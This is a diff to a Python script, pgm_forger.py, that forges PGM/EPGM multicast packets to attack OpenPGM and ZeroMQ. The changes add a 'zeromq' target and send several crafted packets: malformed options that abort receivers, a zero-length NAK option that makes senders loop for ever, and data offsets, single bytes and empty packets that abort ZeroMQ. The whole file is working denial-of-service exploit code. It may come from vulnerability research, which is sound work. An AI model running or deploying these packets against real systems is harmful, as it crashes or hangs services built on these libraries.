@@ -1,6 +1,7 @@
 """Sends one forged PGM packet with a valid checksum: `pgm_forger.py pgm|epgm VICTIM ADDRESS GROUP PORT`, from the interface with
-this address. VICTIM is `receiver`, whose libzmq aborts on data that says its first message lies behind its end, or `sender`, whose
-OpenPGM walks an option of length 0 for ever; what names the sender is taken from what it sends."""
+this address. VICTIM is `receiver`, whose OpenPGM aborts on options that do not begin with their length; `sender`, whose OpenPGM
+walks an option of length 0 for ever (what names the sender is taken from what it sends); or `zeromq`, any ZeroMQ that receives,
+which aborts on data that says its first message lies behind its end, on a single byte, and (epgm) on none."""
 
 import socket
 import struct
@@ -27,9 +28,8 @@ def pgm(source_port, port, kind, options, source, data_size, rest):
     return header(checksum(header(0) + rest)) + rest
 
 
-def data_of_a_stranger(port):
-    message = b"\x70\x00ab"  # the first message at 28,672 of two bytes
-    return pgm(1234, port, ODATA, 0, b"forged", len(message), struct.pack("!II", 1, 1) + message)
+def data_of_a_stranger(port, number, options, data):
+    return pgm(1234, port, ODATA, options, b"forged", len(data), struct.pack("!II", number, 1) + data)
 
 
 def nak_with_an_endless_option(sender, group, port):
@@ -54,15 +54,19 @@ def listen_to_sender(group, port):
 
 
 def main(scheme, victim, address, group, port):
+    to = group
     if victim == "receiver":
-        packet, to = data_of_a_stranger(port), group
+        packets = [data_of_a_stranger(port, 1, OPTIONS_PRESENT, bytes([1, 4, 0, 8, 0x81, 4, 0, 0]))]
+    elif victim == "zeromq":
+        packets = [data_of_a_stranger(port, 1, 0, b"\x70\x00ab"), data_of_a_stranger(port, 2, 0, b"a"), b""]
     else:
         sender = listen_to_sender(group, port)
-        packet, to = nak_with_an_endless_option(sender, group, port), sender[0]
+        packets, to = [nak_with_an_endless_option(sender, group, port)], sender[0]
     kind = (socket.SOCK_RAW, IP_PROTOCOL_PGM) if scheme == "pgm" else (socket.SOCK_DGRAM, 0)
     with socket.socket(socket.AF_INET, *kind) as line:
         line.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(address))
-        line.sendto(packet, (to, port if scheme == "epgm" else 0))
+        for packet in packets:
+            line.sendto(packet, (to, port if scheme == "epgm" else 0))
 
 
 if __name__ == "__main__":
